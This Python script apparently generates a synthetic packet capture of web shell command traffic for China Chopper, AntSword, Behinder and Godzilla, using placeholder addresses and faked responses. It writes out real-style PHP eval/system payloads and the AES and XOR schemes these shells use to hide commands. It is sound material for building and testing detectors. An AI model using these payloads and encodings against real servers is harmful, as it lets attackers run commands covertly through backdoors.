"""Web shells of four families, as their clients call them: China Chopper and AntSword in the open, Behinder and Godzilla under
passwords of our own. AES is Python's `cryptography`. build.py CAPTURE: writes the capture, prints the messages."""
import base64
import gzip
import hashlib
import json
import sys
from pathlib import Path
from urllib.parse import quote_plus

sys.path.insert(0, str(Path(__file__).parent.parent / "record"))
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
from exchanges import Web, request, response

OPERATORS, SERVER, HOST = ["192.0.2.10", "203.0.113.7"], "198.51.100.20", "www.sample.test"


def b64(text):
    return base64.b64encode(text.encode()).decode()


def key(password):
    return hashlib.md5(password.encode()).hexdigest()[:16].encode()


def ecb(password, plain):
    pad = 16 - len(plain) % 16
    return Cipher(algorithms.AES(key(password)), modes.ECB()).encryptor().update(plain + bytes([pad]) * pad)


def cbc(password, plain):
    pad = 16 - len(plain) % 16
    return Cipher(algorithms.AES(key(password)), modes.CBC(bytes(16))).encryptor().update(plain + bytes([pad]) * pad)


def xored(password, plain):
    k = key(password)
    return bytes(octet ^ k[(i + 1) & 15] for i, octet in enumerate(plain))


def say(family, side, words, topic="shell"):
    print(json.dumps({"kind": "message", "family": family, "side": side, "type": topic, "text": words}))


web = Web()


def call(path, body, answer, kind="application/x-www-form-urlencoded"):
    body = body if isinstance(body, bytes) else body.encode()
    answer = answer if isinstance(answer, bytes) else answer.encode()
    asked = request("POST", path, HOST, body, User_Agent="sample", Content_Type=kind)
    web.exchange(OPERATORS[web.port % 2], SERVER, 80, asked, response(answer), 5)


def form(**fields):
    return "&".join(f"{name}={quote_plus(value)}" for name, value in fields.items())


code = '@ini_set("display_errors","0");echo("->|");$p=base64_decode($_POST["z1"]);$s=base64_decode($_POST["z2"]);system($s);echo("|<-");die();'
call("/up/a.php", form(pw="@eval(base64_decode($_POST[z0]));", z0=b64(code), z1=b64("/bin/sh"), z2=b64("cd /srv;id")), "->|uid=33(www-data)\n|<-")
say("china-chopper", "operator", "/bin/sh cd /srv;id")
say("china-chopper", "implant", "uid=33(www-data)\n")
say("china-chopper", "operator", "called 1 times in 0 s; 0 orders stay closed", "control")

code = '@ini_set("display_errors", "0");function asenc($out){return $out;};function asoutput(){$output=ob_get_contents();ob_end_clean();'
code += 'echo "1f3"."c2a";echo @asenc($output);echo "d1e"."f02";}ob_start();$p=base64_decode(substr($_POST["k1"],2));'
call("/up/b.php", form(ant=code, k1="Qx" + b64("/bin/sh"), k2="7z" + b64("id")), "1f3c2auid=33(www-data)\nd1ef02")
say("antsword", "operator", "/bin/sh id")
say("antsword", "implant", "uid=33(www-data)\n")
say("antsword", "operator", "called 1 times in 0 s; 0 orders stay closed", "control")

php = f'$cmd="{b64("id")}";$cmd=base64_decode($cmd);$path="{b64("/srv")}";$path=base64_decode($path);main($cmd,$path);'
plain = f"assert|eval(base64_decode('{b64(php)}'));".encode()
done = json.dumps({"status": b64("success"), "msg": b64("uid=33(www-data)")}).encode()
call("/up/c.php", base64.b64encode(cbc("sample", plain)), base64.b64encode(cbc("sample", done)), "text/plain")
say("behinder", "operator", "id /srv")
say("behinder", "implant", "uid=33(www-data)")
say("behinder", "operator", "called 1 times in 0 s; 0 orders stay closed", "control")

for path, seal in (("/up/d.php", xored), ("/up/d.jsp", ecb)):
    marks = hashlib.md5(b"pass" + key("gsecret")).hexdigest()
    order = gzip.compress(b"cmdLine\x02\x02\0\0\0idmethodName\x02\x0b\0\0\0execCommand", mtime=0)
    answer = marks[:16] + base64.b64encode(seal("gsecret", gzip.compress(b"uid=33(www-data)", mtime=0))).decode() + marks[16:]
    call(path, "pass=" + quote_plus(base64.b64encode(seal("gsecret", order)).decode()), answer)
    say("godzilla", "operator", "cmdLine idmethodName execCommand")
    say("godzilla", "implant", "uid=33(www-data)")
    say("godzilla", "operator", "called 1 times in 0 s; 0 orders stay closed", "control")
web.write(sys.argv[1])
